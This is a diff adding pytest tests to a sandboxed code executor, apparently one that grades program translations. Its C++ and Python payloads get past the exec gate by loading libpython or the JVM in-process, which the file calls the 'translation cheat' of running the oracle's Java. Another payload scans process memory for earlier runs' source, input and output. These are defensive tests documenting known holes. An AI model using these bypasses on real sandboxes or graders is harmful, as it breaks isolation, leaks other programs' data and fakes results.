@@ -33,7 +33,9 @@ does what the attack claims. What each found, and what it now gets:
 from __future__ import annotations
 
 import json
+import os
 import re
+import shutil
 import subprocess
 import sys
 import textwrap
@@ -378,3 +380,167 @@ def test_cached_compile_outputs_charge_no_later_program() -> None:
         ]
         assert all(r.outcome is Outcome.PASSED for r in ex.run(more))
         assert 8 * (24 << 20) < _cached_bytes(ex) <= COMPILE_CACHE_MB << 20
+
+
+# ----------------------------------------------------------------------------- open: another program without exec
+def _libjvm() -> str:
+    java = shutil.which("java")
+    return (
+        str(Path(os.path.realpath(java)).parents[1] / "lib" / "server" / "libjvm.so")
+        if java
+        else ""
+    )
+
+
+LIBPYTHON = textwrap.dedent(
+    r"""
+    #include <bits/stdc++.h>
+    #include <dlfcn.h>
+    int main() {
+        puts("CANARY");
+        fflush(stdout);
+        void* h = dlopen("libpython3.so", RTLD_NOW | RTLD_GLOBAL);
+        for (int minor = 8; !h && minor < 20; minor++)
+            h = dlopen(("libpython3." + std::to_string(minor) + ".so.1.0").c_str(), RTLD_NOW | RTLD_GLOBAL);
+        if (!h) { printf("DENIED libpython %s\n", dlerror()); return 0; }
+        ((void (*)())dlsym(h, "Py_Initialize"))();
+        ((int (*)(const char*))dlsym(h, "PyRun_SimpleString"))(
+            "import sys; print('PWNED-libpython', sys.version.split()[0], flush=True)");
+    }
+    """
+)
+# the issue's translation cheat (run the oracle's Java source), with the JVM loaded, not executed:
+# JNI_CreateJavaVM, then the JDK's source launcher (what `java Main.java` runs). No <jni.h> (the
+# executor compiles without the JDK's include path): the JNI function table by index
+LIBJVM = textwrap.dedent(
+    r"""
+    #include <bits/stdc++.h>
+    #include <dlfcn.h>
+    #include <unistd.h>
+    struct VMOption { const char* s; void* extra; };
+    struct VMArgs { int version, n; VMOption* opts; unsigned char ignore; };
+    typedef void** Env;
+    template <class F> F fn(Env env, int i) { return (F)((void**)*env)[i]; }
+    int main() {
+        puts("CANARY");
+        fflush(stdout);
+        std::ofstream("Main.java") << "public class Main { public static void main(String[] a) {"
+                                      " System.out.println(\"PWNED-libjvm\"); } }\n";
+        void* h = dlopen("%(libjvm)s", RTLD_NOW);
+        if (!h) { printf("DENIED libjvm %%s\n", dlerror()); return 0; }
+        auto create = (int (*)(void**, void**, void*))dlsym(h, "JNI_CreateJavaVM");
+        VMOption o[] = {{"-Xmx32m", 0}, {"-XX:+UseSerialGC", 0}, {"-Xint", 0}, {"-Xss512k", 0},
+                        {"-XX:CompressedClassSpaceSize=16m", 0}, {"-XX:ReservedCodeCacheSize=8m", 0},
+                        {"-XX:MaxMetaspaceSize=64m", 0}, {"-Xshare:off", 0}};
+        VMArgs a{0x000a0000, 8, o, 1};
+        void* vm;
+        Env env;
+        if (create(&vm, (void**)&env, &a) != 0) { puts("DENIED libjvm start"); return 0; }
+        void* cls = fn<void* (*)(Env, const char*)>(env, 6)(env, "com/sun/tools/javac/launcher/Main");
+        if (!cls) { puts("DENIED libjvm launcher"); return 0; }
+        void* m = fn<void* (*)(Env, void*, const char*, const char*)>(env, 113)(
+            env, cls, "main", "([Ljava/lang/String;)V");
+        void* str = fn<void* (*)(Env, const char*)>(env, 6)(env, "java/lang/String");
+        void* s = fn<void* (*)(Env, const char*)>(env, 167)(env, "Main.java");
+        void* arr = fn<void* (*)(Env, int, void*, void*)>(env, 172)(env, 1, str, s);
+        long long args[1] = {(long long)arr};
+        fn<void (*)(Env, void*, void*, long long*)>(env, 143)(env, cls, m, args);
+        fflush(stdout);
+        _exit(0);
+    }
+    """
+) % {"libjvm": _libjvm()}
+INTERPRETERS = {"libpython": LIBPYTHON, "libjvm": LIBJVM}
+
+
+@pytest.fixture(scope="module")
+def interpreter_runs(sealed, tmp_path_factory) -> dict[str, tuple[str, str]]:
+    """name -> (stdout outside the sandbox, stdout sealed)."""
+    out = {}
+    for name, prog in INTERPRETERS.items():
+        native = run_native(tmp_path_factory.mktemp(name), prog)
+        r = sealed.run([ExecRequest(program=prog, language="cpp", mode="run")])[0]
+        out[name] = (native, r.stdout)
+    return out
+
+
+interpreters = pytest.mark.parametrize("name", list(INTERPRETERS))
+needs_jvm = pytest.mark.skipif(not _libjvm() or not has_toolchain("g++"), reason="needs g++, a JDK")
+
+
+@sealed_only
+@needs_jvm
+@interpreters
+def test_an_interpreter_loads_into_a_program_outside_and_sealed(interpreter_runs, name) -> None:
+    """The canary of the open attack below: outside the sandbox the program runs Python code, or
+    compiles and runs Java source, in its own process; sealed, it runs and gets that far."""
+    native, sealed_out = interpreter_runs[name]
+    assert routes(native) == {name: "PWNED"}, native
+    assert sealed_out.startswith("CANARY"), sealed_out
+
+
+@sealed_only
+@needs_jvm
+@interpreters
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: the exec gate stops execve, not code loading. A compiled program dlopens "
+    "libpython or the JDK's libjvm (the jail binds /usr and the interpreter's environment) and "
+    "runs another language in its own process: a C++ 'translation' still runs the oracle's "
+    "Java. Needs each program to see only its own language's runtime (a per-program mount "
+    "namespace hiding the others), or static C/C++ binaries with PROT_EXEC mappings refused",
+)
+def test_no_interpreter_is_loaded_into_a_sealed_program(interpreter_runs, name) -> None:
+    _, sealed_out = interpreter_runs[name]
+    assert "PWNED" not in sealed_out, sealed_out
+
+
+# ----------------------------------------------------------------------------- open: a fork remembers
+MARK = "NEIGHBOUR-SECRET-7f3a9c"
+EARLIER = (  # an earlier program: its marker in its source, its stdin and its stdout
+    "import sys\nsys.stdin.read()\nprint('" + MARK + "-OUTPUT')\n# " + MARK + "-SOURCE " + "x" * 600
+)
+SCAN = textwrap.dedent(
+    r"""
+    import ctypes, re
+    # the marker is built here, so that this program's own text holds none of the three
+    pat = re.compile(("NEIGHBOUR-" + "SECRET-7f3a9c-").encode() + rb"(SOURCE|OUTPUT|STDIN|SELF)")
+    mine = ("NEIGHBOUR-" + "SECRET-7f3a9c-" + "SELF").encode() * 2  # the scan must find this
+    found = set()
+    for line in open("/proc/self/maps").read().splitlines():
+        parts = line.split()
+        name = parts[5] if len(parts) > 5 else ""
+        lo, hi = (int(x, 16) for x in parts[0].split("-"))
+        if "r" not in parts[1] or name.startswith(("/", "[v")) or hi - lo > 1 << 28:
+            continue  # files hold no run's data; [vvar] pages fault
+        for m in pat.finditer(ctypes.string_at(lo, hi - lo)):
+            found.add(m.group(1).decode())
+    print("FOUND", " ".join(sorted(found)))
+    """
+)
+
+
+@pytest.fixture(scope="module")
+def memory_scan(sealed) -> str:
+    earlier = sealed.run([ExecRequest(program=EARLIER, mode="run", stdin=MARK + "-STDIN " * 100)])
+    assert earlier[0].stdout == MARK + "-OUTPUT\n", earlier
+    return sealed.run([ExecRequest(program=SCAN, mode="run")])[0].stdout
+
+
+@sealed_only
+def test_a_memory_scan_finds_what_it_looks_for(memory_scan) -> None:
+    """The canary of the open attack below: the scan finds the marker it built itself."""
+    assert memory_scan.startswith("FOUND") and "SELF" in memory_scan.split(), memory_scan
+
+
+@sealed_only
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: a Python program's child is a fork of its worker, whose heap still holds "
+    "what earlier runs sent and printed (pickled requests, stdin, stdout, frames); a later "
+    "program reads another program's source, input and output from its own memory. Needs the "
+    "children forked from a zygote that never receives a run's data (the child reading its "
+    "own request), which is a change to how the worker starts children",
+)
+def test_a_later_program_finds_nothing_of_an_earlier_one_in_its_memory(memory_scan) -> None:
+    assert memory_scan.split()[1:] == ["SELF"], memory_scan
